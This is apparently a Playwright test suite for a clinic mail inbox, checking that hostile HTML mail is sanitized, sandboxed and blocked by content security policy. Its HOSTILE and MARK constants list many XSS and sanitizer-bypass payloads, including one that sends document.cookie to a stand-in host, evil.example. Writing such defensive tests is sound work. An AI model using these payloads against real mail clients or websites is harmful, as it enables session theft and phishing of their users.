import { expect, test, type Frame, type Page } from '@playwright/test';
import { addMailbox, bringMail, type GivenMail } from '../support/brought-mail.ts';
import { createClinic, createSuperAdmin } from '../support/people.ts';
import { SignInPage } from './pages/sign-in-page.ts';
import { watch } from './pages/watched-page.ts';

/** Mails that mean harm, in a real browser: nothing of them runs, loads, navigates or reads anything. */

const { clinic, owner } = await createClinic(await createSuperAdmin());
const mailbox = await addMailbox(clinic.id);

const EVIL = 'evil.example';
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

/** What a mail could do to a page, each in several ways; whatever runs leaves a mark on the window above it. */
const MARK = `try{top.hacked=1}catch(e){};try{parent.hacked=1;document.title='hacked'}catch(e){};new Image().src='https://${EVIL}/ran?'+document.cookie`;
const HOSTILE = `<!doctype html><html><head>
<base href="https://${EVIL}/">
<meta http-equiv="refresh" content="0;url=https://${EVIL}/meta">
<link rel="stylesheet" href="https://${EVIL}/a.css"><link rel="preload" as="image" href="https://${EVIL}/preload.png">
<link rel="prefetch" href="https://${EVIL}/prefetch"><link rel="dns-prefetch" href="//${EVIL}">
<style>@import url(https://${EVIL}/import.css); @font-face{font-family:x;src:url(https://${EVIL}/font.woff2)}
body{background:url(https://${EVIL}/style-body.png);font-family:x} .f{position:fixed;inset:0;z-index:9999} @media all{.x{background-image:url(https://${EVIL}/media.png)}}
input[value^="a"]{background:url(https://${EVIL}/leak)}</style>
<script>${MARK}</script></head>
<body onload="${MARK}" background="https://${EVIL}/body.png" style="background-image:url('https://${EVIL}/inline.png')">
<p id="said">Dear clinic, this is the text that counts.</p>
<script src="https://${EVIL}/x.js"></script><script type="module">${MARK}</script>
<img src="https://${EVIL}/pixel.png" width="1" height="1"><img src="https://${EVIL}/photo.png" srcset="https://${EVIL}/photo2.png 2x" alt="photo">
<img src=x onerror="${MARK}"><img src="//${EVIL}/relative.png"><img src="/settings" alt="own"><img lowsrc="https://${EVIL}/low.png">
<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">
<picture><source srcset="https://${EVIL}/source.webp"><img src="https://${EVIL}/picture.png"></picture>
<video poster="https://${EVIL}/poster.png" src="https://${EVIL}/v.mp4" autoplay></video><audio src="https://${EVIL}/a.mp3" autoplay></audio>
<table background="https://${EVIL}/table.png"><tr><td background="https://${EVIL}/td.png" class="x">cell</td></tr></table>
<div style="background:url(https://${EVIL}/div.png);position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9" class="f">over everything</div>
<svg onload="${MARK}"><script>${MARK}</script><image href="https://${EVIL}/svg.png"/><use href="https://${EVIL}/u.svg#x"/><animate onbegin="${MARK}" attributeName="x"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${MARK.replaceAll('"', '&quot;')}&gt;"></table></mtext></math>
<form action="https://${EVIL}/form" id="f" method="post"><input name="password" value="a" autofocus onfocus="${MARK}"><button>Sign in again</button></form>
<input form="f" type="image" src="https://${EVIL}/submit.png"><textarea>type here</textarea><select><option>x</option></select>
<iframe src="https://${EVIL}/frame"></iframe><iframe srcdoc="<script>${MARK.replaceAll('"', '&quot;')}</script>"></iframe>
<object data="https://${EVIL}/o.swf"></object><embed src="https://${EVIL}/e.swf"><applet code="x"></applet><frameset><frame src="https://${EVIL}"></frameset>
<a id="js" href="javascript:${MARK}">click me</a><a id="js2" href="java&#10;script:${MARK}">me too</a><a id="data" href="data:text/html,<script>${MARK}</script>">and me</a>
<a id="top" href="https://${EVIL}/top" target="_top">https://bank.example/login</a><a id="own" href="/settings">settings</a>
<a id="ping" href="https://honest.example/" ping="https://${EVIL}/ping" target="_self">honest.example</a>
<details ontoggle="${MARK}" open><summary>more</summary>x</details><marquee onstart="${MARK}">y</marquee>
<noscript><p title="</noscript><img src=x onerror=${MARK.replaceAll('"', '&quot;')}>"></noscript>
<template><script>${MARK}</script></template><dialog open>dialog</dialog>
<p style="width:expression(${MARK.replaceAll('"', '')});behavior:url(https://${EVIL}/x.htc)">end</p>
</body></html>`;

async function open(page: Page, mail: GivenMail): Promise<void> {
  const { conversationId } = await bringMail(mailbox, mail);
  await page.goto(`/${clinic.slug}/inbox/${conversationId}`);
}

const mailFrame = (page: Page) => page.frameLocator('[data-test="mail-frame"]');
/** The browser's own view of the frame: scripts of the test run in it although the page's may not. */
async function frameOf(page: Page): Promise<Frame> {
  const handle = await page.locator('[data-test="mail-frame"]').elementHandle();
  const frame = await handle?.contentFrame();
  if (!frame) throw new Error('there is no frame');
  return frame;
}

/** Requests to other servers that would have left the browser: what its policy forbids does not come so far. */
let left: string[] = [];

test.beforeEach(async ({ page, context }) => {
  left = [];
  // Nothing of these tests leaves the machine, whatever the app does.
  await context.route(/^https?:\/\/(?!127\.0\.0\.1|localhost)/, (route) => {
    left.push(route.request().url());
    return route.abort();
  });
  await new SignInPage(page).signIn(owner.email, owner.password);
});

test('nothing of a hostile mail runs, loads, navigates or reads before anybody asks', async ({ page }) => {
  const seen = watch(page);
  await open(page, { html: HOSTILE, text: 'Dear clinic' });
  await expect(mailFrame(page).getByText('this is the text that counts')).toBeVisible();
  await page.waitForTimeout(1_000);
  const address = page.url();

  expect(seen).toMatchObject({ foreign: [], dialogs: [] });
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  expect(page.url()).toBe(address);
  expect(await page.title()).not.toContain('hacked');
  await expect(page.locator('iframe')).toHaveCount(1);

  const sandbox = (await page.locator('[data-test="mail-frame"]').getAttribute('sandbox')) ?? '';
  expect(sandbox.split(' ').toSorted()).toEqual([
    'allow-popups',
    'allow-popups-to-escape-sandbox',
    'allow-same-origin',
  ]);
  const found = await (
    await frameOf(page)
  ).evaluate(() => ({
    active: [
      ...document.querySelectorAll(
        'script, form, input, button, textarea, select, iframe, object, embed, svg, math, link, base, video, audio, source, template, dialog, meta[http-equiv]',
      ),
    ].map((element) => element.tagName),
    handlers: [...document.querySelectorAll('*')].flatMap((element) =>
      [...element.attributes]
        .filter(({ name }) => name.startsWith('on') || name === 'ping')
        .map(({ name }) => name),
    ),
    addresses: [...document.querySelectorAll('#mail, #mail *')].flatMap((element) =>
      [...element.attributes]
        .filter(({ name, value }) => name !== 'href' && name !== 'title' && /evil|url\(/.test(value))
        .map(({ name, value }) => `${element.tagName} ${name} ${value}`),
    ),
    styles: [...document.querySelectorAll('body style')].map((style) => style.textContent).join(''),
    fixed: [...document.querySelectorAll('#mail *')].filter(
      (element) => getComputedStyle(element).position !== 'static',
    ).length,
    links: Object.fromEntries(
      [...document.querySelectorAll('#mail a')].map((link) => [link.id, link.getAttribute('href')]),
    ),
  }));
  expect(found).toMatchObject({ active: [], handlers: [], addresses: [], fixed: 0 });
  expect(found.styles).not.toMatch(/url|import|font-face|evil/);
  expect(found.links).toMatchObject({
    js: null,
    js2: null,
    data: null,
    own: null,
    top: `https://${EVIL}/top`,
  });
});

test('even what would get past the cleaning cannot run, load, send or leave', async ({ page }) => {
  await open(page, { html: '<p>Harmless</p>' });
  await expect(mailFrame(page).getByText('Harmless')).toBeVisible();
  await page.evaluate(
    (mark) => {
      const inside = document.querySelector<HTMLIFrameElement>('[data-test="mail-frame"]')?.contentDocument;
      if (!inside) throw new Error('there is no frame');
      inside.body.innerHTML = `<img src="https://evil.example/a.png" onerror="${mark}"><img src="x" onerror="${mark}">
      <style>@import url(https://evil.example/i.css); body { background: url(https://evil.example/b.png) }</style>
      <form action="https://evil.example/form" target="_top"><button id="go">go</button></form>
      <iframe src="https://evil.example/frame"></iframe><link rel="stylesheet" href="https://evil.example/c.css">
      <a id="leave" href="https://evil.example/leave" target="_top">leave</a>`;
      const script = inside.createElement('script');
      script.textContent = mark;
      inside.body.append(script);
    },
    MARK.replaceAll('"', "'"),
  );
  const address = page.url();
  for (const id of ['#go', '#leave'])
    await mailFrame(page)
      .locator(id)
      .evaluate((element: HTMLElement) => element.click());
  await page.waitForTimeout(500);
  expect(left).toEqual([]);
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  expect(page.url()).toBe(address);
});

test('nobody but the app may frame the page for mails, and it is empty on its own', async ({ request }) => {
  const answer = await request.get('/mail_frame');
  const policy = answer.headers()['content-security-policy'] ?? '';
  expect(policy).toContain("default-src 'none'");
  expect(policy).toContain('sandbox allow-same-origin allow-popups');
  expect(policy).not.toContain('allow-scripts');
  expect(policy).not.toMatch(/img-src[^;]*https:/);
  expect(policy).toContain("frame-ancestors 'self'");
  expect(answer.headers()['x-frame-options']).toBe('SAMEORIGIN');
  expect((await request.get('/sign-in')).headers()['x-frame-options']).toBe('DENY');
  expect((await request.get('/sign-in')).headers()['content-security-policy']).toMatch(
    /img-src 'self' data: blob:;/,
  );
});

test('pictures of other servers come when they are asked for, once or always, without a referrer', async ({
  page,
  context,
}) => {
  const referrers: (string | undefined)[] = [];
  await context.route('https://pictures.example/**', async (route) => {
    referrers.push(route.request().headers()['referer']);
    await route.fulfill({ contentType: 'image/png', body: PNG });
  });
  const from = { name: 'News', address: 'news@pictures.example' };
  const html =
    '<p>News</p><img src="http://pictures.example/a.png"><img width="1" src="https://pictures.example/p.png">';
  await open(page, { html, from });
  await expect(mailFrame(page).getByText('News')).toBeVisible();
  await expect(page.getByTestId('images-blocked')).toContainText('Blocked: 1');
  expect(referrers).toEqual([]);
  await page.getByRole('button', { name: 'Load pictures' }).click();
  await expect.poll(() => referrers).toEqual([undefined]);
  await expect(page.getByTestId('images-blocked')).toBeHidden();

  await page.reload();
  await expect(page.getByTestId('images-blocked')).toBeVisible();
  await page.getByRole('button', { name: 'Always from this sender' }).click();
  await expect.poll(() => referrers.length).toBe(2);
  await page.reload();
  await expect.poll(() => referrers.length).toBe(3);
  await expect(page.getByTestId('images-blocked')).toBeHidden();

  // Somebody who only pretends to be that sender is asked about again.
  await open(page, { html, from, authentication: 'spf=fail dmarc=fail' });
  await expect(page.getByTestId('sender-refuted')).toBeVisible();
  await expect(page.getByTestId('images-blocked')).toBeVisible();
  expect(referrers.length).toBe(3);
});

test('links open elsewhere, without power over the app, and say where they lead', async ({
  page,
  context,
}) => {
  await context.route('https://elsewhere.example/**', (route) =>
    route.fulfill({ contentType: 'text/html', body: '<title>Elsewhere</title>' }),
  );
  await open(page, {
    html: '<a href="https://elsewhere.example/x">https://bank.example/login</a> <a href="https://bank.example/">bank.example</a>',
  });
  const link = mailFrame(page).getByRole('link', { name: /bank\.example\/login/ });
  await expect(link).toContainText('[elsewhere.example]');
  await expect(mailFrame(page).getByRole('link', { name: 'bank.example', exact: true })).toBeVisible();
  const [popup] = await Promise.all([context.waitForEvent('page'), link.click()]);
  await popup.waitForLoadState();
  expect(await popup.title()).toBe('Elsewhere');
  expect(await popup.evaluate(() => [window.opener, document.referrer])).toEqual([null, '']);
});

test('pictures of the mail itself are shown from what is stored, others are left out', async ({ page }) => {
  await open(page, {
    html: '<p>Look: <img src="cid:Photo@x" alt="tooth"> <img src="cid:drawing@x" alt="drawing"></p>',
    files: [
      { name: 'tooth.png', type: 'image/png', content: PNG, contentId: 'photo@x' },
      { name: 'drawing.svg', type: 'image/svg+xml', content: Buffer.from('<svg/>'), contentId: 'drawing@x' },
    ],
  });
  const picture = mailFrame(page).getByAltText('tooth');
  await expect(picture).toHaveAttribute('src', /^blob:/);
  await expect.poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(1);
  await expect(mailFrame(page).getByAltText('drawing')).not.toHaveAttribute('src');
});

test('an attachment that may do harm is only downloaded, after a warning', async ({ page }) => {
  await open(page, {
    text: 'See the invoice.',
    files: [
      { name: 'invoice.pdf.html', type: 'text/html', content: Buffer.from(`<script>${MARK}</script>`) },
      { name: 'photo.png', type: 'image/png', content: PNG },
    ],
  });
  await page.getByRole('button', { name: 'invoice.pdf.html', exact: true }).click();
  await expect(page.getByRole('alertdialog')).toContainText('may be harmful');
  const [saved] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Download anyway' }).click(),
  ]);
  expect(saved.suggestedFilename()).toBe('invoice.pdf.html');
  await page.getByRole('button', { name: 'photo.png', exact: true }).click();
  await expect(page.getByTestId('attachment-preview')).toBeVisible();
});

test('plain text is always there, with links, and what it quotes is folded', async ({ page }) => {
  await open(page, {
    html: '<p>Yes, <b>gladly</b>.</p><div class="gmail_quote">On Monday, Ana wrote:<blockquote>Can I come?</blockquote></div>',
    text: 'Yes, gladly: https://clinic.example/\n\nOn Monday, 3 March, Ana <ana@x.example> wrote:\n> Can I come?',
  });
  const frame = mailFrame(page);
  await expect(frame.getByText('gladly')).toBeVisible();
  await expect(frame.getByText('Can I come?')).toBeHidden();
  await frame.getByLabel('Quoted text').click();
  await expect(frame.getByText('Can I come?')).toBeVisible();

  const message = page.getByTestId('message');
  await page.getByTestId('message-menu').click();
  await page.getByRole('menuitem', { name: 'Show plain text' }).click();
  await expect(message.getByRole('link', { name: 'https://clinic.example/' })).toHaveAttribute(
    'rel',
    'noopener noreferrer nofollow',
  );
  await expect(message.getByText('Can I come?')).toBeHidden();
  await page.getByRole('button', { name: 'Quoted text' }).click();
  await expect(message.getByText('> Can I come?')).toBeVisible();
});
